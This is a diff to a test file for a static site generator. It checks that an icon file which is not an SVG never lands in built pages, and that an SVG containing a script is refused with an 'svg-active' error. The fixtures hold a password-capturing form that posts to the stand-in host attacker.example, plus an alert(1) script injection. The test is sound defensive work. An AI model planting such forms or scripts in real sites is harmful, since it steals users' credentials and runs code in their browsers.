@@ -10,6 +10,7 @@ import { readListed } from '../../generator/paths.ts';
 import { validate } from '../../generator/validate.ts';
 import { formatProblem } from '../../generator/problems.ts';
 import { Builder } from '../../generator/build.ts';
+import { ContentError } from '../../generator/problems.ts';
 import { lineOf, root, sandbox, type Sandbox } from '../helpers.ts';
 
 const node = join(root, 'node_modules/.bin/node');
@@ -61,13 +62,18 @@ describe('a content file runs no code', () => {
   test('an icon file that is not an SVG document is never pasted into a page: the icon shows nothing', async () => {
     box = sandbox();
     // No <svg> root: the sprite skips it, and the page must not carry the file's markup either.
-    writeFileSync(join(box.content, 'images/icons/map.svg'), '<form action="https://attacker.example/"><input name="password"></form><script>alert(1)</script>');
+    writeFileSync(join(box.content, 'images/icons/map.svg'), '<form action="https://attacker.example/"><input name="password"></form>');
     const builder = new Builder({ root, contentDir: box.content, mode: 'production', includeDrafts: false });
     const outputs = await builder.full();
     const pages = [...outputs].filter(([file]) => file.endsWith('.html')).map(([, bytes]) => bytes.toString('utf8'));
     expect(pages.length).toBeGreaterThan(10);
     expect(pages.some((html) => html.includes('#icons-fuel'))).toBe(true);
-    expect(pages.filter((html) => html.includes('attacker.example') || html.includes('alert(1)'))).toEqual([]);
+    expect(pages.filter((html) => html.includes('attacker.example'))).toEqual([]);
+    // With a script in it, it is refused where it is (an SVG of the site is a drawing only).
+    const scripted = '<form action="https://attacker.example/"><input name="password"></form><script>alert(1)</script>';
+    writeFileSync(join(box.content, 'images/icons/map.svg'), scripted);
+    const refused = await new Builder({ root, contentDir: box.content, mode: 'production', includeDrafts: false }).full().then(() => undefined, (e: unknown) => e);
+    expect((refused as ContentError).problems?.map((p) => `${basename(p.file)}:${p.line}:${p.column} ${p.code}`)).toEqual([`map.svg:1:${scripted.indexOf('<script>') + 1} svg-active`]);
   });
 });
 
